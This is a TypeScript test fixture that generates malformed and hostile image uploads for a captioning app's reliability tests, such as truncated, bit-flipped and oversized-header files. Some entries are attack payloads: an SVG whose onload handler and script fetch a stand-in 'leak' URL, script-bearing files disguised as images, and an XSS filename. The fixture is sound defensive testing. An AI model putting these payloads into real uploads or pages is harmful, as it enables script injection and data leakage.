/**
 * The malformed and hostile inputs of e2e/reliability.spec.ts, generated in memory from npm
 * encoders (pngjs, jpeg-js) and hand-written bytes, so the corpus needs no tool outside node_modules.
 * Each input says what the app must do with it: caption it, show an error card, or either (a
 * damaged file that a decoder may still read, like a bit flip inside the pixel data).
 */
import jpeg from 'jpeg-js';
import { PNG, type PNGOptions } from 'pngjs';
import { flatBlockJpeg, gif, withExifOrientation } from './image-bytes';

export type Expected = 'caption' | 'error' | 'either';

export interface CorpusInput {
  name: string;
  mimeType: string;
  bytes: Uint8Array;
  expected: Expected;
}

/** Deterministic pseudo-random numbers (mulberry32), so every run tries the same bit flips. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Flips `count` random bits among bytes [from, to). */
function flipBits(bytes: Uint8Array, count: number, seed: number, from: number, to: number): Uint8Array {
  const flipped = bytes.slice();
  const next = random(seed);
  for (let i = 0; i < count; i++) flipped[from + Math.floor(next() * (to - from))] ^= 1 << Math.floor(next() * 8);
  return flipped;
}

function randomBytes(length: number, seed: number): Uint8Array {
  const next = random(seed);
  return Uint8Array.from({ length }, () => next() * 256);
}

const text = (content: string) => new TextEncoder().encode(content);

/** A diagonal gradient with some colour, so no two blocks are alike. */
function rgbaGradient(width: number, height: number): Buffer {
  const data = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      data.set([(x * 255) / width, (y * 255) / height, 128, 255], (y * width + x) * 4);
    }
  }
  return data;
}

function png(width: number, height: number, options: PNGOptions = {}): Uint8Array {
  const image = new PNG({ width, height, ...options });
  image.data = rgbaGradient(width, height);
  // A copy in a plain Uint8Array: slice() on a Buffer would share, and bit flips would hit the original.
  return new Uint8Array(PNG.sync.write(image, options));
}

function jpegFile(width: number, height: number): Uint8Array {
  return new Uint8Array(jpeg.encode({ width, height, data: rgbaGradient(width, height) }, 85).data);
}

/** The PNG signature and an IHDR chunk (with a wrong CRC; decoders reject it either way) and nothing else. */
function pngHeaderOnly(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(8 + 25);
  header.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  header.writeUInt32BE(13, 8);
  header.write('IHDR', 12, 'ascii');
  header.writeUInt32BE(width, 16);
  header.writeUInt32BE(height, 20);
  header.set([8, 6, 0, 0, 0], 24);
  return header;
}

/** A valid PNG whose IHDR is rewritten to claim other dimensions (CRC fixed, so only the size lies). */
function pngClaimingSize(width: number, height: number): Uint8Array {
  const real = Buffer.from(png(16, 16));
  real.writeUInt32BE(width, 16);
  real.writeUInt32BE(height, 20);
  real.writeUInt32BE(crc32(real.subarray(12, 29)), 29);
  return real;
}

function crc32(bytes: Uint8Array): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

/** A JPEG whose SOF0 claims 65,500 × 65,500 px. */
function jpegClaimingSize(): Uint8Array {
  const real = Buffer.from(flatBlockJpeg(16, 16, 'grey', () => [200]));
  const sof = real.indexOf(Buffer.from([0xff, 0xc0]));
  real.writeUInt16BE(65_500, sof + 5);
  real.writeUInt16BE(65_500, sof + 7);
  return real;
}

// A 1×1 lossless WebP (the probe of browsers' feature tests): no npm package encodes WebP.
const WEBP_LOSSLESS = new Uint8Array(Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64'));

const BLACK_WHITE: [number, number, number][] = [
  [0, 0, 0],
  [255, 255, 255],
];

const MIME = { jpg: 'image/jpeg', png: 'image/png', gif: 'image/gif', webp: 'image/webp' } as const;

/** Zero-byte, truncated, bit-flipped (header and body) and header-only variants of one valid file. */
function damagedVariants(extension: keyof typeof MIME, valid: Uint8Array, seed: number): CorpusInput[] {
  const mimeType = MIME[extension];
  const headerLength = Math.min(24, valid.length);
  return [
    { name: `${extension}-empty.${extension}`, mimeType, bytes: new Uint8Array(0), expected: 'error' },
    { name: `${extension}-magic-only.${extension}`, mimeType, bytes: valid.slice(0, 4), expected: 'error' },
    { name: `${extension}-truncated-half.${extension}`, mimeType, bytes: valid.slice(0, Math.floor(valid.length / 2)), expected: 'error' },
    { name: `${extension}-truncated-last-byte.${extension}`, mimeType, bytes: valid.slice(0, -1), expected: 'either' },
    { name: `${extension}-header-bit-flips.${extension}`, mimeType, bytes: flipBits(valid, 6, seed, 0, headerLength), expected: 'either' },
    { name: `${extension}-body-bit-flips.${extension}`, mimeType, bytes: flipBits(valid, 8, seed + 1, headerLength, valid.length), expected: 'either' },
    { name: `${extension}-random-bytes.${extension}`, mimeType, bytes: randomBytes(2048, seed + 2), expected: 'error' },
  ];
}

/** Photos at every EXIF orientation; the content check lives in the orientation test. */
function exifRotations(): CorpusInput[] {
  const base = flatBlockJpeg(64, 32, 'ycbcr', (column, row) => [column < 4 && row < 2 ? 250 : 10, 128, 128]);
  return [1, 2, 3, 4, 5, 6, 7, 8].map((orientation) => ({
    name: `exif-orientation-${orientation}.jpg`,
    mimeType: 'image/jpeg',
    bytes: withExifOrientation(base, orientation),
    expected: 'caption' as const,
  }));
}

export function hostileCorpus(): CorpusInput[] {
  const validJpeg = jpegFile(48, 40);
  const validPng = png(48, 40);
  const validGif = gif(24, 24, BLACK_WHITE, [(x, y) => ((x >> 3) + (y >> 3)) % 2]);
  const svgWithScript =
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="fetch(\'https://example.com/leak\')">' +
    '<script>alert("svg script ran");fetch("https://example.com/leak")</script><rect width="10" height="10"/></svg>';
  return [
    // Valid, if unusual, images.
    { name: 'plain.jpg', mimeType: 'image/jpeg', bytes: validJpeg, expected: 'caption' },
    { name: 'plain.png', mimeType: 'image/png', bytes: validPng, expected: 'caption' },
    { name: 'plain.gif', mimeType: 'image/gif', bytes: validGif, expected: 'caption' },
    { name: 'lossless-1x1.webp', mimeType: 'image/webp', bytes: WEBP_LOSSLESS, expected: 'caption' },
    { name: 'one-pixel.png', mimeType: 'image/png', bytes: png(1, 1), expected: 'caption' },
    { name: 'one-pixel.jpg', mimeType: 'image/jpeg', bytes: jpegFile(1, 1), expected: 'caption' },
    { name: 'one-pixel.gif', mimeType: 'image/gif', bytes: gif(1, 1, BLACK_WHITE, [() => 1]), expected: 'caption' },
    { name: 'one-by-900-strip.png', mimeType: 'image/png', bytes: png(1, 900), expected: 'caption' },
    { name: 'greyscale.jpg', mimeType: 'image/jpeg', bytes: flatBlockJpeg(40, 24, 'grey', (column) => [column * 50]), expected: 'caption' },
    { name: 'cmyk.jpg', mimeType: 'image/jpeg', bytes: flatBlockJpeg(40, 24, 'cmyk', (column, row) => [255 - column * 40, 255, 255 - row * 80, 200]), expected: 'caption' },
    { name: 'greyscale.png', mimeType: 'image/png', bytes: png(32, 32, { colorType: 0, inputColorType: 6 }), expected: 'caption' },
    { name: 'grey-alpha.png', mimeType: 'image/png', bytes: png(32, 32, { colorType: 4, inputColorType: 6 }), expected: 'caption' },
    { name: 'sixteen-bit.png', mimeType: 'image/png', bytes: png(32, 32, { colorType: 2, inputColorType: 6, bitDepth: 16 }), expected: 'caption' },
    {
      name: 'animated.gif',
      mimeType: 'image/gif',
      bytes: gif(32, 32, BLACK_WHITE, [() => 1, () => 0, (x) => x % 2]),
      expected: 'caption',
    },
    ...exifRotations(),
    // Wrong names and types: the content decides.
    { name: 'really-a-png.jpg', mimeType: 'image/jpeg', bytes: validPng, expected: 'caption' },
    { name: 'really-a-jpeg.png', mimeType: 'image/png', bytes: validJpeg, expected: 'caption' },
    { name: 'really-a-gif.webp', mimeType: 'image/webp', bytes: validGif, expected: 'caption' },
    { name: 'no-extension', mimeType: '', bytes: validPng, expected: 'caption' },
    { name: 'text-named.png', mimeType: 'image/png', bytes: text('just some text, not an image\n'), expected: 'error' },
    { name: 'page.jpg', mimeType: 'image/jpeg', bytes: text('<!doctype html><script>alert("html ran")</script>'), expected: 'error' },
    { name: 'script.svg', mimeType: 'image/svg+xml', bytes: text(svgWithScript), expected: 'error' },
    { name: 'script-svg-named.png', mimeType: 'image/png', bytes: text(svgWithScript), expected: 'error' },
    { name: 'document.pdf', mimeType: 'application/pdf', bytes: text('%PDF-1.4\n%âãÏÓ\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n'), expected: 'error' },
    { name: 'photo.heic', mimeType: 'image/heic', bytes: Uint8Array.from([0, 0, 0, 24, ...text('ftypheic'), 0, 0, 0, 0, ...text('mif1heic')]), expected: 'error' },
    { name: 'header-only.avif', mimeType: 'image/avif', bytes: Uint8Array.from([0, 0, 0, 28, ...text('ftypavif'), 0, 0, 0, 0, ...text('avifmif1miaf')]), expected: 'error' },
    { name: 'header-only.bmp', mimeType: 'image/bmp', bytes: Uint8Array.from([...text('BM'), 0x46, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0]), expected: 'error' },
    // Hostile sizes and names.
    { name: 'claims-60000x60000.png', mimeType: 'image/png', bytes: pngHeaderOnly(60_000, 60_000), expected: 'error' },
    { name: 'claims-60000x60000-with-data.png', mimeType: 'image/png', bytes: pngClaimingSize(60_000, 60_000), expected: 'error' },
    { name: 'claims-65500x65500.jpg', mimeType: 'image/jpeg', bytes: jpegClaimingSize(), expected: 'error' },
    { name: 'claims-65535x65535.gif', mimeType: 'image/gif', bytes: (() => {
      const huge = gif(2, 2, BLACK_WHITE, [() => 1]);
      huge.set([0xff, 0xff, 0xff, 0xff], 6);
      return huge;
    })(), expected: 'either' },
    { name: 'jpeg-then-script.jpg', mimeType: 'image/jpeg', bytes: Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, ...text('<script>alert(1)</script>'), 0xff, 0xd9]), expected: 'error' },
    { name: '<img src=x onerror=alert(1)>.png', mimeType: 'image/png', bytes: validPng, expected: 'caption' },
    { name: `${'very-long-name-'.repeat(60)}.png`, mimeType: 'image/png', bytes: validPng, expected: 'caption' },
    // Damaged copies of each format.
    ...damagedVariants('jpg', validJpeg, 10),
    ...damagedVariants('png', validPng, 20),
    ...damagedVariants('gif', validGif, 30),
    ...damagedVariants('webp', WEBP_LOSSLESS, 40),
  ];
}
